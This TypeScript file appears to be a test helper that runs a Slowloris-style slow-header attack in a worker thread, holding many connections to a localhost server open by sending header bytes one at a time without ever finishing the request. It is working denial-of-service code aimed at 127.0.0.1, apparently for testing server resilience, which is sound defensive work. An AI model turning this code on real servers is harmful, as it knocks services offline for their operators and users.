// A thread that attacks: connections whose heads come byte by byte and never end (Slowloris).
import * as net from "node:net";
import { Worker, isMainThread, parentPort, workerData } from "node:worker_threads";

export interface DripSettings {
  readonly port: number;
  readonly connections: number;
  /** Between two bytes of one connection. */
  readonly pauseMs: number;
}

/** Connections are served in portions, so that the thread is never busy for long. */
const portions = 20;

/** Starts the thread. @returns once all connections are there */
export async function drip(settings: DripSettings): Promise<{ readonly stop: () => Promise<void> }> {
  const worker = new Worker(new URL(import.meta.url), { workerData: settings });
  await new Promise((resolve, reject) => {
    worker.once("message", resolve);
    worker.once("error", reject);
  });
  return { stop: async () => void (await worker.terminate()) };
}

async function attack({ port, connections, pauseMs }: DripSettings): Promise<void> {
  const sockets: net.Socket[] = [];
  for (let n = 0; n < connections; n++) {
    const socket = net.connect({ host: "127.0.0.1", port, noDelay: true });
    await new Promise<void>((resolve, reject) => {
      socket.once("connect", resolve);
      socket.once("error", reject);
    });
    socket.on("error", () => undefined);
    socket.write("GET / HTTP/1.1\r\nHost: t\r\nX-Slow: ");
    sockets.push(socket);
  }
  parentPort?.postMessage("attacking");
  let portion = 0;
  setInterval(() => {
    for (let n = portion; n < sockets.length; n += portions) sockets[n]?.write("x");
    portion = (portion + 1) % portions;
  }, pauseMs / portions);
}

if (!isMainThread) await attack(workerData as DripSettings);
